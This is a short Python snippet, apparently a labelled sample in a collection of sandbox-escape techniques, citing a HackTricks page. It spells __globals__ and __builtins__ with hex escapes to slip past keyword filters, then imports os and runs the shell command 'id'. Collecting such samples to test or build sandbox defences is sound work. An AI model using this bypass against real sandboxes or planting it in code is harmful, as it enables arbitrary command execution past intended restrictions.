# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (octal/hex representation)
# Family: attr-in-string
# What: the attribute name __globals__ written with \x escapes
def f():
    pass

g = getattr(f, "\x5f\x5fglobals\x5f\x5f")
g["\x5f\x5fbuiltins\x5f\x5f"].__import__("os").system("id")
